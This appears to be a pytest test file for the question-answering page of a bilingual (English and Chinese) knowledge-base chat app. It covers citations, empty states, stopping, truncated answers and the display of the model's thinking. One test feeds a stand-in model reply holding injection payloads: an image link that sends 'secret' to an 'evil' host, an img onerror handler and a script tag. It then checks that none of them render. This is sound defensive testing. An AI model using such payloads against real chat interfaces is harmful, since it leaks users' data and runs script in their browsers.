"""The ask view, in both languages: empty, without a model, working, answered, stopped, failed."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import TYPE_CHECKING

import chat_server
import pytest
from chat_server import ChatService

from ingest import ingest
from ui.answering import RunningAnswer

if TYPE_CHECKING:
    from pathlib import Path

    from conftest import UserInterface
    from streamlit.testing.v1 import AppTest

WARRANTY = "The warranty on the coffee machine lasts 24 months from the day of purchase."
TURNS = "_conversation"
SECTIONS = """# Waterside

## Heron

The grey heron strikes at passing fish.

## Otter

The otter sleeps in its holt under the roots of an alder.
"""


@pytest.fixture
def service(monkeypatch: pytest.MonkeyPatch) -> Iterator[ChatService]:
    started = ChatService(lambda _: "It lasts **24 months** [1][9].")
    monkeypatch.setenv("KB_CHAT_MODEL", started.model)
    yield started
    started.stop()


@pytest.fixture
def asking(service: ChatService, request: pytest.FixtureRequest) -> UserInterface:
    """The UI over one document, with a chat model."""
    assert service
    ui: UserInterface = request.getfixturevalue("ui")
    ui.shared.base.add(WARRANTY, name="warranty.txt")
    return ui


def html(page: AppTest) -> str:
    values = [element.value for element in page.html]  # type: ignore[attr-defined] # AppTest
    return "\n".join(value for value in values if not value.startswith("<style"))


def ask(page: AppTest, question: str) -> AppTest:
    page.chat_input[0].set_value(question).run()
    turn: RunningAnswer = page.session_state[TURNS][-1]
    assert turn.wait(30)
    page.run()
    assert not page.exception
    return page


def test_a_passage_beside_an_answer_has_its_sentence_marked_and_names_its_section(
    asking: UserInterface, tmp_path: Path
) -> None:
    (tmp_path / "waterside.md").write_text(SECTIONS, "utf-8")
    ingest(asking.shared.base, [tmp_path])
    page = ask(asking.open("ask"), "Where does the otter sleep?")
    shown = html(page)
    assert "Waterside › Otter" in shown
    assert "<mark>The <b>otter</b>" in shown


@pytest.mark.parametrize(
    ("locale", "title", "empty"),
    [("en-US", "Ask", "Nothing to search yet"), ("zh-CN", "问答", "还没有可搜索的内容")],
)
def test_an_empty_store_says_what_to_do_first(
    ui: UserInterface, locale: str, title: str, empty: str
) -> None:
    page = ui.open("ask", locale=locale)
    assert page.title[0].value == title
    assert empty in html(page)


@pytest.mark.parametrize(
    ("locale", "words"), [("en-US", "no chat model yet"), ("zh-CN", "还没有对话模型")]
)
def test_without_a_model_the_best_passages_are_shown_and_how_to_add_one(
    ui: UserInterface, locale: str, words: str
) -> None:
    ui.shared.base.add(WARRANTY, name="warranty.txt")
    page = ui.open("ask", locale=locale)
    assert words in page.info[0].value
    page.text_input(key="question_only").set_value("How long is the warranty?").run()
    assert "warranty.txt" in html(page)


@pytest.mark.parametrize(
    ("locale", "hint", "save"),
    [
        ("en-US", "Answers come from one document", "Save as Markdown"),
        ("zh-CN", "回答取自 1 个文档", "保存为 Markdown"),
    ],
)
def test_an_answer_leads_to_the_passages_it_names(
    asking: UserInterface, locale: str, hint: str, save: str
) -> None:
    page = asking.open("ask", locale=locale)
    assert any(hint in caption.value for caption in page.caption)
    ask(page, "How long is the warranty?")
    shown = html(page)
    assert '<strong>24 months</strong> <button type="button" class="kb-cited"' in shown
    assert 'data-cite="0-1" title="warranty.txt">1</button>.' in shown
    assert ">9<" not in shown
    beside = shown.split('<div class="kb-hit-head">')[1]
    assert "warranty.txt" in beside
    assert "months from the day of purchase" in beside
    assert any(button.label == save for button in page.get("download_button"))


def test_what_a_model_writes_never_becomes_a_picture_a_link_or_markup(
    asking: UserInterface, service: ChatService
) -> None:
    service.reply = lambda _: (
        "![x](http://evil/?q=secret) [here](http://evil/) <http://evil/> <img src=x onerror=a()>"
        "\n\n<script>alert(1)</script>\n\n[ref]: http://evil/\n\n[1]"
    )
    shown = html(ask(asking.open("ask"), "warranty?"))
    answer = shown.split('<div class="kb-answer">')[1].split("</div>")[0]
    assert "<img" not in answer
    assert "<script" not in answer
    assert "href" not in answer


def test_a_follow_up_is_shown_as_it_was_asked(asking: UserInterface, service: ChatService) -> None:
    replies = ["24 months [1].", "What does the warranty cover?", "Repairs [1]."]
    service.reply = lambda _: replies.pop(0)
    page = ask(asking.open("ask"), "How long is the warranty?")
    ask(page, "And what does it cover?")
    assert [m.value for m in page.markdown if "cover" in m.value]
    assert any("What does the warranty cover" in caption.value for caption in page.caption)
    assert html(page).count("kb-answer") == 2


def test_an_answer_that_names_no_passage_says_so(
    asking: UserInterface, service: ChatService
) -> None:
    service.reply = lambda _: "24 months."
    page = ask(asking.open("ask"), "How long is the warranty?")
    assert any("names no passage" in caption.value for caption in page.caption)
    assert "warranty.txt" in html(page)


def test_a_model_that_fails_is_an_error_with_what_was_written(
    asking: UserInterface, service: ChatService
) -> None:
    service.faults.append(chat_server.break_off)
    page = ask(asking.open("ask"), "How long is the warranty?")
    assert "The answer broke off" in page.error[0].value
    assert "Half an" in html(page)


def test_an_answer_can_be_stopped_and_keeps_what_was_written(
    asking: UserInterface, service: ChatService
) -> None:
    service.faults.append(chat_server.talk_on)
    page = asking.open("ask")
    page.chat_input[0].set_value("How long is the warranty?").run()
    turn: RunningAnswer = page.session_state[TURNS][-1]
    deadline = time.monotonic() + 60
    while not turn.so_far.text:
        assert time.monotonic() < deadline
        time.sleep(0.02)
    page.run()
    page.button(key="stop-0").click().run()
    assert turn.wait(30)
    assert service.hung_up.wait(60)
    page.run()
    assert turn.state == "stopped"
    assert "and on" in html(page)
    assert any(caption.value == "Stopped." for caption in page.caption)


def test_a_new_conversation_begins_empty(asking: UserInterface) -> None:
    page = ask(asking.open("ask"), "How long is the warranty?")
    next(button for button in page.button if button.label == "New conversation").click().run()
    assert page.session_state[TURNS] == []
    assert "kb-answer" not in html(page)


@pytest.mark.parametrize(
    ("locale", "said"),
    [
        ("en-US", ("was cut short", "Continue", "What the model thought first")),
        ("zh-CN", ("回答被截断", "继续", "模型的思考过程")),
    ],
)
def test_an_answer_that_was_cut_short_says_so_and_is_continued_by_a_button(
    asking: UserInterface, service: ChatService, locale: str, said: tuple[str, str, str]
) -> None:
    cut, label, folded = said
    service.thoughts = "Passage one."
    service.reply, service.most = (lambda _: "It lasts 24 months [1], no less."), 6
    page = ask(asking.open("ask", locale=locale), "warranty?")
    assert "It lasts 24 months" in html(page)
    assert any(cut in caption.value for caption in page.caption)
    (thoughts,) = page.expander
    assert folded in thoughts.label
    assert thoughts.text[0].value == "Passage one."
    service.reply, service.most = (lambda _: "months [1], no less."), 1000
    (button,) = [each for each in page.button if each.key == "continue"]
    assert button.label == label
    button.click().run()
    turn: RunningAnswer = page.session_state[TURNS][-1]
    assert turn.wait(30)
    page.run()
    assert not page.exception
    assert len(page.session_state[TURNS]) == 1
    shown = html(page)
    assert "It lasts 24 months <button" in shown
    assert ">1</button>, no less." in shown
    assert not any(cut in caption.value for caption in page.caption)
    assert not [each for each in page.button if each.key == "continue"]


@pytest.mark.parametrize(
    ("locale", "reason", "said"),
    [
        ("en-US", "content_filter", "cut short by the chat server's filter"),
        ("zh-CN", "content_filter", "被对话服务器的过滤器截断"),
        ("en-US", "abort", "abort"),
        ("zh-CN", "abort", "abort"),
    ],
)
def test_what_else_ended_an_answer_is_said_and_cannot_be_continued(
    asking: UserInterface, service: ChatService, locale: str, reason: str, said: str
) -> None:
    service.finish = reason
    page = ask(asking.open("ask", locale=locale), "warranty?")
    (remark,) = [each.value for each in page.caption if "content_cut" in each.value]
    assert said in remark
    assert not [each for each in page.button if each.key == "continue"]


def test_a_model_that_only_thought_is_an_error_with_its_thoughts_folded(
    asking: UserInterface, service: ChatService
) -> None:
    service.thoughts, service.most = "Let me see. " * 20, 8
    page = ask(asking.open("ask"), "warranty?")
    assert "tokens thinking" in page.error[0].value.replace("\\", "")
    assert "Let me see." in page.expander[0].text[0].value
    assert "do not say" not in html(page)


def test_while_the_model_thinks_the_page_says_so_and_can_stop_it(
    asking: UserInterface, service: ChatService
) -> None:
    service.faults.append(chat_server.think_on)
    page = asking.open("ask")
    page.chat_input[0].set_value("warranty?").run()
    turn: RunningAnswer = page.session_state[TURNS][-1]
    deadline = time.monotonic() + 60
    while not turn.so_far.thinking:
        assert time.monotonic() < deadline
        time.sleep(0.01)
    page.run()
    assert any("thinking" in caption.value for caption in page.caption)
    page.button(key="stop-0").click().run()
    assert service.hung_up.wait(60)
    assert turn.wait(60)
